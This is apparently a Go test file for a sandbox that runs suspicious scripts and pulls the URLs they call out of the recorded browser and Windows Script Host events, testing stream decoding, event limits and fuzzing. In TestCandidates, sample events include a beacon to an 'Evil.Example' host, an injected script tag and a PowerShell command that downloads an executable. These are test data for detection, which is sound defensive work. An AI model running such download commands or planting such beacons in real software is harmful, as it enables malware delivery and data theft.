package emulate

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestDecodeStream(t *testing.T) {
	t.Parallel()
	opts := Options{MaxValue: 20, MaxEvents: 3}.withDefaults()
	tests := []struct {
		name   string
		in     string
		want   *Result
		end    bool
		budget *Budget
	}{
		{"events and end", `{"k":"ready"}
{"k":"ev","s":"fetch","v":"https://a.example/","p":"browser"}
{"k":"ev","s":"eval","v":"x()","p":"browser","d":1,"c":true}
{"k":"run","p":"browser"}
{"k":"end"}
`, &Result{Events: []Event{{"fetch", "https://a.example/", "browser", 0, false}, {"eval", "x()", "browser", 1, true}}, Profiles: []string{"browser"}}, true, nil},
		{"cut off mid-line", `{"k":"ev","s":"fetch","v":"https://a.example/","p":"browser"}
{"k":"ev","s":"fetch","v":"https://b.exa`, &Result{Events: []Event{{"fetch", "https://a.example/", "browser", 0, false}}}, false, nil},
		{"junk lines skipped", "not json\n{\"k\":\"nope\"}\n{\"k\":\"ev\",\"s\":\"a b\",\"v\":\"x\"}\n{\"k\":\"ev\",\"s\":\"fetch\",\"v\":\"\"}\n\n{\"k\":\"ev\",\"s\":\"fetch\",\"v\":\"u\",\"d\":99}\n",
			&Result{Events: []Event{{"fetch", "u", "", 8, false}}}, false, nil},
		{"long value cut", `{"k":"ev","s":"fetch","v":"https://0123456789.example/"}` + "\n", &Result{Events: []Event{{"fetch", "https://0123456789.e", "", 0, false}}}, false, nil},
		{"overlong line skipped", `{"k":"ev","s":"fetch","v":"` + strings.Repeat("x", 5000) + `"}` + "\n" + `{"k":"end"}`, &Result{}, true, nil},
		{"event limit", strings.Repeat(`{"k":"ev","s":"fetch","v":"u"}`+"\n", 5), &Result{Events: []Event{{"fetch", "u", "", 0, false}, {"fetch", "u", "", 0, false}, {"fetch", "u", "", 0, false}}, Truncated: true}, false, nil},
		{"budget, first wins", `{"k":"stub","p":"browser","n":"Mage"}
{"k":"budget","r":"time","p":"browser"}
{"k":"budget","r":"memory","p":"wsh"}
{"k":"budget","r":"bogus"}
`, &Result{Reruns: 1, Stubbed: []string{"Mage"}}, false, &Budget{Reason: ReasonTime, Profile: "browser"}},
		{"script error", `{"k":"run","p":"wsh","e":"TypeError: x\nmore"}` + "\n", &Result{Profiles: []string{"wsh"}, Errors: []string{"wsh: TypeError: x"}}, false, nil},
		{"syntax error", `{"k":"run","e":"SyntaxError: y"}` + "\n" + `{"k":"end"}`, &Result{Errors: []string{"SyntaxError: y"}}, true, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := &collector{opts: opts, res: &Result{}}
			if err := c.decodeStream(strings.NewReader(tt.in)); err != nil {
				t.Fatalf("decodeStream: %v", err)
			}
			if diff := cmp.Diff(tt.want, c.res); diff != "" {
				t.Errorf("decodeStream(%q) mismatch (-want +got):\n%s", tt.in, diff)
			}
			if c.end != tt.end {
				t.Errorf("decodeStream(%q) end = %v, want %v", tt.in, c.end, tt.end)
			}
			if diff := cmp.Diff(tt.budget, c.budget); diff != "" {
				t.Errorf("decodeStream(%q) budget mismatch (-want +got):\n%s", tt.in, diff)
			}
		})
	}
}

// FuzzDecodeStream: the parent survives whatever the child writes, keeps
// within its limits, and what the child encodes comes back intact.
func FuzzDecodeStream(f *testing.F) {
	f.Add([]byte("{\"k\":\"ready\"}\n{\"k\":\"ev\",\"s\":\"fetch\",\"v\":\"https://a.example/\",\"p\":\"browser\",\"d\":1}\n{\"k\":\"end\"}\n"))
	f.Add([]byte("{\"k\":\"budget\",\"r\":\"memory\"}\n{\"k\":\"stub\",\"n\":\"x\"}\n{\"k\":\"run\",\"p\":\"wsh\",\"e\":\"boom\"}"))
	f.Add([]byte("{\"k\":\"ev\",\"s\":\"eval\",\"v\":\"\\u0000\\ud800\",\"c\":true}\n\xff\xfe\n"))
	f.Add([]byte(strings.Repeat("{", 300)))
	opts := Options{MaxValue: 64, MaxEvents: 8}.withDefaults()
	f.Fuzz(func(t *testing.T, data []byte) {
		c := &collector{opts: opts, res: &Result{}}
		if err := c.decodeStream(bytes.NewReader(data)); err != nil {
			t.Fatalf("decodeStream: %v", err)
		}
		if len(c.res.Events) > opts.MaxEvents {
			t.Fatalf("%d events, over the limit of %d", len(c.res.Events), opts.MaxEvents)
		}
		for _, e := range c.res.Events {
			if !validName(e.Sink) || e.Value == "" || len(e.Value) > opts.MaxValue || e.Depth < 0 || e.Depth > opts.MaxDepth {
				t.Fatalf("event out of bounds: %+v", e)
			}
		}
		if c.budget != nil && c.budget.Reason == "" {
			t.Fatalf("budget without a reason: %+v", c.budget)
		}
		// Round trip: what the child would write for these events reads
		// back as the same events.
		var buf bytes.Buffer
		for _, e := range c.res.Events {
			b, err := json.Marshal(line{Kind: kindEvent, Sink: e.Sink, Value: e.Value, Profile: e.Profile, Depth: e.Depth, Code: e.Code})
			if err != nil {
				t.Fatal(err)
			}
			buf.Write(append(b, '\n'))
		}
		c2 := &collector{opts: opts, res: &Result{}}
		if err := c2.decodeStream(&buf); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(c.res.Events, c2.res.Events); diff != "" {
			t.Fatalf("round trip mismatch (-first +second):\n%s", diff)
		}
	})
}

func TestCandidates(t *testing.T) {
	t.Parallel()
	events := []Event{
		{Sink: "Image.src", Value: "https://Evil.Example:8443/p?x=1"},
		{Sink: "script.src", Value: "//cdn.example/a.js"},
		{Sink: "XMLHttpRequest.open", Value: "/checkout/save"},
		{Sink: "fetch", Value: "https://shop.example.com/api"},
		{Sink: "document.write", Value: `<script src="https://w.example/x.js"></script>`, Code: true},
		{Sink: "WScript.Shell.Run", Value: `powershell -c iwr http://dl.example/a.exe -o a.exe`},
		{Sink: "eval", Value: "var a = 1 // not a url", Code: true},
	}
	want := []Candidate{
		{URL: "//cdn.example/a.js", Host: "cdn.example", Sink: "script.src"},
		{URL: "http://dl.example/a.exe", Host: "dl.example", Sink: "WScript.Shell.Run"},
		{URL: "https://Evil.Example:8443/p?x=1", Host: "evil.example", Sink: "Image.src"},
		{URL: "https://w.example/x.js", Host: "w.example", Sink: "document.write"},
	}
	if diff := cmp.Diff(want, Candidates(events)); diff != "" {
		t.Errorf("Candidates mismatch (-want +got):\n%s", diff)
	}
}
